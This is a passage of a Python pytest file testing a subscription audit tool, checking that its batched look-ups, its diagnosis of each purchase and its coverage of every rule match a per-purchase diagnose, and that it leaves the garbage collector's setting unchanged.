        dataclasses.replace(activated, status=NoticeStatus.DEAD, attempts=12, last_error="webhook: answered 503")
    )
    for transaction_id in (DELETED, PEOPLE_LEFT):
        provision(services, transaction_id, email_of(transaction_id))
        services.offboarding.delete(
            tenant_id_for(transaction_id), trigger=Trigger.OPERATOR, actor="seed", reason="the owner asked"
        )
    owner = email_of(PEOPLE_LEFT)
    services.identity.create_user(
        owner, {"email": owner, "custom:tenant_id": tenant_id_for(PEOPLE_LEFT)}, "Temporary-Passw0rd!"
    )


def test_the_audit_s_look_ups_find_the_case_the_stores_find(services: Services) -> None:
    transaction_ids = seed_every_branch(services)
    stores, _ = scan_only(services)  # every answer from the batched reads: a single look-up fails
    teams: dict[str, list[UserRecord]] = {}  # as the audit's members pass reads them
    for records in services.users.scan():
        for tenant, record in members_among(services.evidence_stores, records):
            teams.setdefault(tenant.tenant_id, []).append(record)
    unrecorded: dict[str, list[Invitation]] = {}  # as the audit's invitations pass finds them
    for invitations in services.team_store.scan_accepted():
        for invitation in unrecorded_among(services.evidence_stores, invitations):
            unrecorded.setdefault(invitation.tenant_id, []).append(invitation)
    lookup = PageLookup(stores, {}, stores.mail_statistics, teams, unrecorded)
    queued = services.queue.messages()

    lookup.read_named(transaction_ids)
    lookup.read_people(transaction_ids)

    for transaction_id in transaction_ids:
        purchase = Purchase.of_transaction(transaction_id)
        from_stores = gather(purchase, services.evidence_stores)
        messages = tuple(message for message in queued if message.transaction_id == transaction_id)
        # The audit reads ITNs without their raw fields, which no rule reads.
        without_fields = tuple(dataclasses.replace(payment, fields=()) for payment in from_stores.payments)
        expected = dataclasses.replace(from_stores, messages=(), payments=without_fields)
        assert gather(purchase, lookup) == expected, transaction_id
        assert from_stores.messages == messages  # what the audit's one listing of the queue gives
    # The project's own tenant, as the store chooses among the two billed to the transaction.
    own = services.tenants.get(tenant_id_for(BILLED_TWICE))
    assert services.tenants.find_by_transactions([BILLED_TWICE]) == {BILLED_TWICE: own}


@pytest.mark.parametrize("days_on", [0, 8])
def test_the_audit_names_every_purchase_as_diagnose_does(services: Services, days_on: int) -> None:
    transaction_ids = seed_every_branch(services)
    now = services.clock.now() + timedelta(days=days_on)
    stores = services.evidence_stores

    report = run_audit(stores, since=now - timedelta(days=60), now=now, password_ttl=WEEK)

    diagnosed = {
        # The stores' evidence, as the audit reads it: not PayFast's own view, which only a single
        # purchase's diagnose asks for.
        transaction_id: classify(
            gather(find_purchase(Selector(transaction_id=transaction_id), stores), stores),
            now,
            password_ttl=WEEK,
            mail_statistics=stores.mail_statistics,
        )
        for transaction_id in transaction_ids
        if transaction_id != NOWHERE
    }
    findings = {transaction_id: diagnosis.finding for transaction_id, diagnosis in diagnosed.items()}
    assert report.totals.transactions == len(diagnosed)
    # A tenant deleted or held by its lifecycle is counted with the healthy: none is a failure.
    quiet = {finding for finding in Finding if not finding.is_failure} - {Finding.IN_PROGRESS}
    assert report.totals.healthy == sum(finding in quiet for finding in findings.values())
    assert set(report.in_progress) == {t for t, finding in findings.items() if finding is Finding.IN_PROGRESS}
    # Each failure's whole diagnosis (evidence, summary, next step, escalation), as diagnose has it.
    assert {case.diagnosis.transaction_id: case.diagnosis for case in report.cases} == {
        t: diagnosis for t, diagnosis in diagnosed.items() if diagnosis.finding not in NOT_FAILURES
    }


def test_the_purchases_seeded_reach_every_rule(services: Services) -> None:
    transaction_ids = seed_every_branch(services)
    now = services.clock.now()

    rules = {
        classify(services.runbook.case(Selector(transaction_id=transaction_id)), at, password_ttl=WEEK).rule
        for transaction_id in transaction_ids
        for at in (now, now + timedelta(days=8))  # a week on, the temporary passwords have expired
    }

    # SUB003 compares ours with PayFast's own view, which only a single purchase's diagnose asks for
    # (tests/contract/test_subscription_sync.py): never the audit, and not these seeds.
    assert rules == {rule.code for rule in RULES} - {"SUB003"}


@pytest.mark.parametrize("enabled", [True, False])
def test_the_audit_leaves_the_cycle_collector_as_it_found_it(services: Services, enabled: bool) -> None:
    seed_week(services)
    was_enabled = gc.isenabled()
    collecting: list[bool] = []

    def fail_after_the_first_batch(_count: int) -> None:
        collecting.append(gc.isenabled())
        raise RuntimeError("the store went away")

    try:
        gc.enable() if enabled else gc.disable()

        audit(services)
        assert gc.isenabled() is enabled
        with pytest.raises(RuntimeError):
            run_audit(
                services.evidence_stores, since=utc_now() - WEEK, now=utc_now(), progress=fail_after_the_first_batch
            )
        assert gc.isenabled() is enabled
    finally:
        gc.enable() if was_enabled else gc.disable()
    # Memory holds a page, whatever the number of purchases: nothing to pause the collector for.
    assert collecting == [enabled]
